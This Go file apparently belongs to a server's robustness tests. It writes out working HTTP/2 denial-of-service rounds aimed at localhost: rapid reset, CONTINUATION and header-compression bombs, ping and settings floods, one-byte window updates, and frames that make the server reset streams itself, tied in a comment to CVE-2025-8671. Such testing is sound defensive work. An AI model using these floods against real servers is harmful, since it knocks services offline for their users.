package server

import (
	"bytes"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floods are rounds of attacks, most of which net/http alone bears without end.
var floods = map[string]func(a *attacker, round int){
	"rapid reset":           func(a *attacker, _ int) { a.reset(a.open("GET", "/wait")) },
	"rapid reset of bodies": func(a *attacker, _ int) { a.reset(a.open("POST", "/body")) },
	"rapid reset of bodies that have begun": func(a *attacker, _ int) {
		id := a.open("POST", "/body")
		_ = a.WriteData(id, false, make([]byte, 100))
		a.reset(id)
	},
	"streams that are never finished": func(a *attacker, _ int) { a.open("POST", "/body") },

	"pings":               func(a *attacker, _ int) { _ = a.WritePing(false, [8]byte{}) },
	"answers to no pings": func(a *attacker, _ int) { _ = a.WritePing(true, [8]byte{}) },
	"settings":            func(a *attacker, _ int) { _ = a.WriteSettings() },
	"settings of windows": func(a *attacker, i int) {
		if i < 90 {
			a.open("GET", "/wait")
		}
		_ = a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1<<16 + i)})
	},
	"settings of tables": func(a *attacker, i int) {
		_ = a.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 2 * 4096)})
	},
	"priorities": func(a *attacker, i int) {
		_ = a.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: 3})
	},
	"farewells":         func(a *attacker, _ int) { _ = a.WriteGoAway(0, http2.ErrCodeNo, nil) },
	"frames of no type": func(a *attacker, _ int) { _ = a.WriteRawFrame(0xfa, 0, 0, []byte("x")) },

	"windows of the connection": func(a *attacker, _ int) { _ = a.WriteWindowUpdate(0, 1) },
	"windows of streams that are closed": func(a *attacker, i int) {
		a.once(i, "GET", "/")
		_ = a.WriteWindowUpdate(1, 1)
	},
	"windows of one byte": func(a *attacker, i int) {
		if i == 0 {
			_ = a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		a.once(i, "GET", "/big")
		_ = a.WriteWindowUpdate(1, 1)
	},
	"data without any": func(a *attacker, i int) {
		a.once(i, "POST", "/body")
		_ = a.WriteData(1, false, nil)
	},
	"data of padding": func(a *attacker, i int) {
		a.once(i, "POST", "/body")
		_ = a.WriteDataPadded(1, false, nil, make([]byte, 255))
	},
	"data by the byte": func(a *attacker, i int) {
		a.once(i, "POST", "/body")
		_ = a.WriteData(1, false, []byte("x"))
	},

	"continuations without fields": func(a *attacker, i int) {
		if i == 0 {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.request("GET", "/")})
		}
		_ = a.WriteContinuation(1, false, nil)
	},
	"continuations": func(a *attacker, i int) {
		if i == 0 {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.request("GET", "/")})
		}
		_ = a.WriteContinuation(1, false, a.block("x-a", "b"))
	},
	// One field, and a byte for each time that it is there again.
	"header bombs": func(a *attacker, _ int) {
		bomb := bytes.Clone(a.request("GET", "/", "x-b", string(make64("b", 3900))))
		a.next()
		a.headers(append(bomb, make64("\xbe", 12<<10)...), true)
	},
	"heads of the largest size": func(a *attacker, _ int) { a.open("GET", "/wait", "x-b", string(make64("b", 16000))) },
}

// resets are rounds in which the server has to reset a stream itself: a rapid reset
// without any of the client's (CVE-2025-8671).
var resets = map[string]func(a *attacker, round int){
	"window of zero":       func(a *attacker, _ int) { _ = a.WriteWindowUpdate(a.open("GET", "/wait"), 0) },
	"window too large":     func(a *attacker, _ int) { _ = a.WriteWindowUpdate(a.open("GET", "/wait"), 1<<31-1) },
	"data after the end":   func(a *attacker, _ int) { _ = a.WriteData(a.open("GET", "/wait"), false, make([]byte, 64)) },
	"names in upper case":  func(a *attacker, _ int) { a.open("GET", "/", "X-A", "b") },
	"no path":              func(a *attacker, _ int) { a.open("GET", "") },
	"fields of HTTP/1.1":   func(a *attacker, _ int) { a.open("GET", "\x00") },
	"priority of its own":  func(a *attacker, _ int) { a.itself(a.open("GET", "/wait")) },
	"more than the window": func(a *attacker, _ int) { a.upload(a.open("POST", "/wait"), 5) },
	"more than was said": func(a *attacker, _ int) {
		_ = a.WriteData(a.open("POST", "/wait", "content-length", "1"), false, make([]byte, 64))
	},
	"fields after the end": func(a *attacker, _ int) {
		a.stream = a.open("GET", "/wait")
		a.headers(a.request("GET", "/wait"), true)
	},
	"trailers without an end": func(a *attacker, _ int) {
		a.stream = a.open("POST", "/wait")
		a.headers(a.block("x-a", "b"), false)
	},
	"trailers that begin a request": func(a *attacker, _ int) {
		a.stream = a.open("POST", "/wait")
		a.headers(a.request("GET", "/"), true)
	},
}

func make64(s string, n int) []byte { return bytes.Repeat([]byte(s), n) }

// once opens the first stream, in the first round.
func (a *attacker) once(round int, verb, path string) {
	if round == 0 {
		a.open(verb, path)
	}
}

func (a *attacker) reset(id uint32) { _ = a.WriteRSTStream(id, http2.ErrCodeCancel) }

// itself makes a stream depend on itself, RFC 7540 §5.3.1.
func (a *attacker) itself(id uint32) { _ = a.WritePriority(id, http2.PriorityParam{StreamDep: id}) }

func (a *attacker) upload(id uint32, frames int) {
	for range frames {
		_ = a.WriteData(id, false, make([]byte, 16<<10))
	}
}

// headers sends a block on the current stream.
func (a *attacker) headers(block []byte, end bool) {
	_ = a.WriteHeaders(http2.HeadersFrameParam{
		StreamID: a.stream, BlockFragment: block, EndHeaders: true, EndStream: end,
	})
}

// open begins a request, with a body to come unless it is a GET.
func (a *attacker) open(verb, path string, more ...string) uint32 {
	a.next()
	a.headers(a.request(verb, path, more...), verb == "GET")
	return a.stream
}

// request is a request's block, with more fields, name and value by turns.
func (a *attacker) request(verb, path string, more ...string) []byte {
	return a.block(append([]string{
		":method", verb, ":scheme", "https", ":authority", "localhost", ":path", path,
	}, more...)...)
}

// block is valid until the next one.
func (a *attacker) block(fields ...string) []byte {
	a.buf.Reset()
	for ; len(fields) > 0; fields = fields[2:] {
		_ = a.fields.WriteField(hpack.HeaderField{Name: fields[0], Value: fields[1]})
	}
	return a.buf.Bytes()
}

// next is the next stream: 1, 3, 5.
func (a *attacker) next() { a.stream = (a.stream + 1) | 1 }
